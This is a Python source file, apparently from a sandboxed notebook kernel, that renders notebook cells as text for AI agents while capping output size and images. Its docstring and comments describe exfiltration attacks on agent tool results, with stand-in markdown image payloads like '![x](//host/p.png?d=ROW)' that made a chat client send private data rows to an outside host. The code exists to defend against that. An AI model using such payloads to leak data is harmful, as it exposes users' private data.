"""Compact text an LLM reads well: one cell, or a whole notebook, as plain text.

Long outputs are cut in the middle (head and tail kept) with a note saying how
to get the full text; the full output stays in the notebook. Images are not
put in the text: they are listed by a placeholder and returned next to the
text (MCP image content, PydanticAI binary content).

One result is bounded as a whole, not only output by output: a cell that
printed 2600 outputs of 3999 characters each made one result of 10 MB, and a
``display(Image)`` loop one of 20,000 images. The outputs of a result share
:data:`MAX_RESULT_CHARS` (:data:`FULL_RESULT_CHARS` with ``full=True``), at
most :data:`MAX_IMAGES` images go with it (:data:`FULL_MAX_IMAGES`), and each
image's header is read first: one that does not parse, or declares more
pixels than an agent's client should decode, is replaced by a note
(:mod:`sandbox_kernel.outputs.images`). What is cut or left out is said, with
how to see more.

Once the session is private (``private=True``) every output's text is
defanged here, whatever the engine already did: the text of an HTML-only
output is made here (tags stripped, entities decoded), so ``https&#58;//``
in the sandbox's HTML, harmless in a page, came back as a live
``https://`` for an agent that follows links (guarantee 8; an attack
review), and an exception's class name is any string a cell chooses.

It is also put in code (:func:`inert`): an MCP
client may render a tool's result as markdown, and defanged text still
held images without a scheme (``![x](//host/p.png?d=ROW)``, ``<img
src=//host>``, ``![x](http:host/p)``), which a chat client fetched with
the private rows in the address (a later review, rendered in Chromium).
No markdown renderer makes an image, a link or HTML of code.
"""

from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass, field
from typing import Any

from ..outputs.images import image_problem
from ..outputs.links import defang_text
from ..terminal_text import terminal_safe_output
from .frozen_json import FrozenJson
from .notebook import Cell, CellOutput, CellState, Notebook, OutputType

MAX_OUTPUT_CHARS = 4000
MAX_CODE_LINES_IN_LIST = 3
FULL_OUTPUT_CHARS = 200_000
#: characters of all the outputs of one result (about: labels and notes aside)
MAX_RESULT_CHARS = 20_000
FULL_RESULT_CHARS = 500_000
#: images returned with one result
MAX_IMAGES = 10
FULL_MAX_IMAGES = 50
#: the least of an output's text kept when the result's budget is shared out
_MIN_SHARE = 200
#: what an output costs besides its text: its label line and a cut's note
_BLOCK_OVERHEAD = 150

_TAGS = re.compile(r"<(script|style)\b.*?</\1>|<[^>]+>", re.S | re.I)


@dataclass
class ToolResult:
    """What a tool returns: text, plus images (mime type, base64) when there are any."""

    text: str
    images: list[tuple[str, str]] = field(default_factory=list)

    def __str__(self) -> str:
        return self.text


def deliverable(result: ToolResult) -> ToolResult:
    """``result`` as an adapter may hand it to an agent: at most
    :data:`FULL_MAX_IMAGES` images, each with a header that parses and a sane
    size. :func:`render_cell`'s results pass unchanged; this holds any other
    maker of a ``ToolResult`` to the same rule, at the last point before the
    images leave (MCP ``ImageContent``, PydanticAI ``BinaryContent``)."""
    gate = ImageGate(FULL_MAX_IMAGES)
    for mime, data in result.images:
        gate.add(mime, data)
    if len(gate.kept) == len(result.images):
        return result
    left = len(result.images) - len(gate.kept)
    note = (
        f"\n[{left} image(s) not returned: over {FULL_MAX_IMAGES} in one result, "
        "or a header that did not parse or declared too many pixels]"
    )
    return ToolResult(result.text + note, gate.kept)


def strip_ansi(text: str) -> str:
    """Tool text for an agent: no colours, and none of the sequences a
    terminal showing the result would obey."""
    return terminal_safe_output(text, keep_colours=False)


def truncate(text: str, limit: int, hint: str = "") -> str:
    if limit <= 0 or len(text) <= limit:
        return text
    head = text[: limit * 2 // 3]
    tail = text[-(limit - len(head)) :]
    cut = len(text) - len(head) - len(tail)
    note = f"\n[... {cut} characters truncated{'; ' + hint if hint else ''} ...]\n"
    return head + note + tail


def bundle_text(data: dict[str, Any] | None) -> str:
    """The best text form of a MIME bundle."""
    data = data or {}
    for mime in ("text/plain", "text/markdown"):
        text = data.get(mime)
        if isinstance(text, str):
            return text
    if isinstance(data.get("text/html"), str):
        return html.unescape(_TAGS.sub("", data["text/html"])).strip()
    if "application/json" in data:
        value = data["application/json"]
        if isinstance(value, FrozenJson):
            if len(value.text) > FULL_OUTPUT_CHARS:
                return value.text[:FULL_OUTPUT_CHARS]  # (not parsed again to be indented)
            value = value.thaw()
        return json.dumps(value, indent=1)[:FULL_OUTPUT_CHARS]
    kinds = ", ".join(sorted(data)) or "empty"
    return f"[output of type {kinds}]"


class ImageGate:
    """Numbers the images of one result and decides which go with it: at most
    ``limit`` (None: none are returned, they are only numbered, as in a
    notebook's summary), each with a header that parses and a sane size."""

    def __init__(self, limit: int | None) -> None:
        self.limit = limit
        self.count = 0
        self.kept: list[tuple[str, str]] = []
        self.left_out = 0
        self.refused = 0

    def add(self, mime: str, data: str) -> str:
        """The placeholder of the next image in the text (with why, when it is not returned)."""
        self.count += 1
        tag = f"[image #{self.count}: {mime}"
        if self.limit is None:
            return tag + "]"
        if len(self.kept) >= self.limit:
            self.left_out += 1
            return tag + f", left out: over {self.limit} images in one result]"
        problem = image_problem(mime, data)
        if problem:
            self.refused += 1
            return tag + f", not returned: {problem}]"
        self.kept.append((mime, data))
        return tag + "]"


_BACKTICK_RUN = re.compile(r"`+")


def _ticks(text: str, least: int) -> str:
    """A run of backticks longer than any in ``text`` (at least ``least``)."""
    longest = max((len(run) for run in _BACKTICK_RUN.findall(text)), default=0)
    return "`" * max(least, longest + 1)


def inert(text: str) -> str:
    """``text`` as a fenced code block whose fence no line of it can close:
    a markdown renderer shows it as it is."""
    fence = _ticks(text, 3)
    return f"{fence}\n{text}\n{fence}"


def output_text(out: CellOutput, images: ImageGate, private: bool = False) -> tuple[str, str]:
    """(label, text) of one output, defanged when the session is ``private``."""
    label, text = _output_text(out, images)
    return label, defang_text(text) if private else text


def _output_text(out: CellOutput, images: ImageGate) -> tuple[str, str]:
    if out.output_type == OutputType.STREAM:
        return (out.name or "stdout", strip_ansi(out.text or ""))
    if out.output_type == OutputType.ERROR:
        tb = "\n".join(strip_ansi(line) for line in out.traceback or [])
        # the name and value are any strings a cell chose (an empty traceback shows them)
        return ("error", tb or strip_ansi(f"{out.ename}: {out.evalue}"))
    if out.images:
        parts = [images.add(mime, data) for mime, data in out.images]
        alt = (out.data or {}).get("text/plain")
        if isinstance(alt, str):
            parts.append(strip_ansi(alt))
        return ("display" if out.output_type == OutputType.DISPLAY_DATA else "result", "\n".join(parts))
    label = "result" if out.output_type == OutputType.EXECUTE_RESULT else "display"
    return (label, strip_ansi(bundle_text(out.data)))


def _share(lengths: list[int], budget: int) -> int:
    """The largest cap such that the ``lengths`` cut to it add up to at most
    ``budget`` (short outputs whole, the long ones an equal share of the rest)."""
    remaining = budget
    ordered = sorted(lengths)
    for i, length in enumerate(ordered):
        share = remaining // (len(ordered) - i)
        if length > share:
            return max(share, _MIN_SHARE)
        remaining -= length
    return max(ordered, default=0)


def _output_blocks(texts: list[tuple[str, str]], per: int, total: int, hint: str, private: bool = False) -> list[str]:
    """Each output as its label line and text, cut to ``per`` characters, and
    all of them to about ``total``: an equal share for the long ones, and past
    as many outputs as the budget can show, the middle ones left out (named).
    ``private``: each text in code (:func:`inert`)."""
    shown_as = inert if private else str
    blocks = [f"--- {label} ---\n{shown_as(truncate(text, per, hint))}" for label, text in texts]
    if sum(len(b) + 1 for b in blocks) <= total:
        return blocks  # the common case, as it always was
    shown = max(2, total // (_MIN_SHARE + _BLOCK_OVERHEAD))
    head = list(range(len(texts)))
    omitted = ""
    if len(texts) > shown:
        first, last = (shown + 1) // 2, shown // 2
        middle = texts[first : len(texts) - last]
        chars = sum(len(text) for _, text in middle)
        omitted = (
            f"[... {len(middle)} outputs ({chars} characters) left out: the result's outputs share "
            f"{total} characters{'; ' + hint if hint else ''} ...]"
        )
        head = list(range(first)) + list(range(len(texts) - last, len(texts)))
    cap = min(per, _share([len(texts[i][1]) for i in head], total - _BLOCK_OVERHEAD * len(head)))
    out = []
    for i in head:
        label, text = texts[i]
        out.append(f"--- {label} ---\n{shown_as(truncate(text, cap, hint))}")
        if omitted and i == (shown + 1) // 2 - 1:
            out.append(omitted)
    return out


def render_cell(
    cell: Cell,
    number: int,
    *,
    full: bool = False,
    limit: int = MAX_OUTPUT_CHARS,
    show_code: bool = True,
    private: bool = False,
) -> ToolResult:
    count = cell.execution_count if cell.execution_count is not None else " "
    head = f"Cell {number} [{count}] {cell.state.value.upper()}"
    if cell.duration is not None:
        head += f" ({cell.duration:.2f} s)"
    lines = [head]
    if show_code:
        lines += ["--- code ---", inert(cell.code) if private else cell.code]
    per = FULL_OUTPUT_CHARS if full else limit
    gate = ImageGate(FULL_MAX_IMAGES if full else MAX_IMAGES)
    hint = f"call repl_show_cell({number}, full=True) for the full output"
    if full:  # what is still cut can only be seen by the cell writing it to a file
        hint = "have the cell write it to a file in /workspace and read it in parts"
    texts = [output_text(out, gate, private) for out in cell.outputs]
    texts = [(label, text.rstrip("\n")) for label, text in texts]
    lines += _output_blocks(texts, per, FULL_RESULT_CHARS if full else MAX_RESULT_CHARS, hint, private)
    if gate.left_out:
        see = "" if full else f"repl_show_cell({number}, full=True) returns up to {FULL_MAX_IMAGES}; "
        lines.append(
            f"[{gate.left_out} of {gate.count} images left out (at most {gate.limit} a result); "
            f"{see}save the figures to files in /workspace to see the others]"
        )
    if gate.refused:
        lines.append(f"[{gate.refused} image(s) not returned: their header did not parse or declared too many pixels]")
    if not cell.outputs and cell.state in (CellState.COMPLETED,):
        lines.append("(no output)")
    if cell.state == CellState.IDLE:
        lines.append("(not executed)")
    if cell.privacy_raised:
        p = cell.privacy_raised
        lines.append(f"--- privacy --- this cell raised the session from {p.get('from')} to {p.get('to')}")
        if p.get("datasets"):
            # names a cell chose (``sandbox_kernel.private.add_dataset``), in
            # code: as text, ``![x](//host/p.png?d=<row>)`` was an image a
            # markdown client fetched with the row in its address (a review)
            lines += ["its new datasets:", inert("\n".join(str(name) for name in p["datasets"]))]
    return ToolResult("\n".join(lines), gate.kept)


def render_notebook(nb: Notebook, header: str = "", private: bool = False) -> str:
    """The notebook's cells, a few lines each. ``private``: the listing is one
    code block (:func:`inert`), not a code span per summary: the code's
    first lines stood outside code, and an unpaired backtick run in them
    closed against the next summary's span, leaving the sandbox's text
    outside code (a review: a markdown renderer fetched its image)."""
    if not nb.cells:
        return (header + "\n" if header else "") + "The notebook is empty."
    lines = [header] if header else []
    lines.append(f"Notebook of session {nb.session_id}: {len(nb.cells)} cell(s)")
    entries: list[str] = []
    for i, cell in enumerate(nb.cells):
        count = cell.execution_count if cell.execution_count is not None else " "
        code_lines = cell.code.splitlines() or [""]
        shown = "\n    ".join(code_lines[:MAX_CODE_LINES_IN_LIST])
        more = (
            f"\n    ... ({len(code_lines) - MAX_CODE_LINES_IN_LIST} more lines)"
            if len(code_lines) > MAX_CODE_LINES_IN_LIST
            else ""
        )
        summary = ""
        if cell.state == CellState.ERROR and cell.error is not None:
            said = strip_ansi(f"{cell.error.ename}: {truncate(cell.error.evalue or '', 200)}")
            summary = f" -> {defang_text(said) if private else said}"
        elif cell.outputs:
            numbered = ImageGate(None)
            first = " ".join(output_text(o, numbered, private)[1] for o in cell.outputs).strip().replace("\n", " ")
            summary = f" -> {truncate(first, 120)}" if first else ""
        entries.append(f"[{i}] ({count}) {cell.state.value.upper()}{summary}\n    {shown}{more}")
    lines.append(inert("\n".join(entries)) if private else "\n".join(entries))
    return "\n".join(lines)
